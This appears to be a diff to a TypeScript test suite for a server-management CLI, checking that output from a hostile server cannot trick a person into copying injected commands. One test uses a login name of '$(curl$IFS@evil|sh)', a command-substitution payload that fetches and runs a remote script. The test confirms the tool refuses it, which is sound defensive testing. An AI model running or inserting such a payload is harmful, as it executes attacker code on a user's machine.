@@ -59,15 +59,16 @@ async function buoy(
   return { ...ran, changes: calls.filter((call) => !call.startsWith('GET ')) };
 }
 
+const printed = (stream: string) => ({ stream, data: Buffer.from(`${nasty}\n`).toString('base64') });
 const execAnswer = {
-  'POST /servers/:id/exec': {
-    body: {
-      ...{ exitCode: 0, signal: null, stdout: `${nasty}\n`, stderr: `${nasty}\n` },
-      truncated: false,
-      durationMs: 1,
-    },
+  'POST /servers/:id/exec/stream': {
+    events: [
+      ['output', printed('stdout')],
+      ['output', printed('stderr')],
+      ['exit', { exitCode: 0, signal: null, truncated: false, durationMs: 1 }],
+    ],
   },
-} as const;
+} satisfies Partial<Record<EndpointKey, ScriptedAnswer>>;
 const outputAnswer = {
   'GET /tasks/:id/output': {
     body: { output: { offset: 0, nextOffset: 0, text: `${nasty}\n`, complete: true } },
@@ -365,13 +366,22 @@ describe('a hostile server that writes commands for the person to copy', () => {
     expect(out).toBe(`Sent. The answer: buoy openclaw sessions messages srv_1 ${quoted}\n`);
   });
 
-  test('nor by its login name into the ssh command that is shown where ssh does not start', async () => {
+  test('nor by its login name into ssh: it is refused, and no command with it is shown', async () => {
     const named = { ...server, username: '$(curl$IFS@evil|sh)' };
-    const { err } = await buoy(
+    let started = false;
+    const { exit, err } = await buoy(
       ['servers', 'ssh', 'web'],
       { 'GET /servers': { body: { servers: [named], nextCursor: null } } },
-      { ...person, runProgram: () => Promise.reject(new Error('ENOENT')) },
+      {
+        ...person,
+        runProgram: async () => {
+          started = true;
+          return 0;
+        },
+      },
     );
-    expect(err).toContain("-l '$(curl$IFS@evil|sh)' -- web.example");
+    expect({ exit, started }).toEqual({ exit: 1, started: false });
+    expect(err).toContain('The login of web cannot be written into a config of ssh.');
+    expect(err).not.toContain('evil');
   });
 });
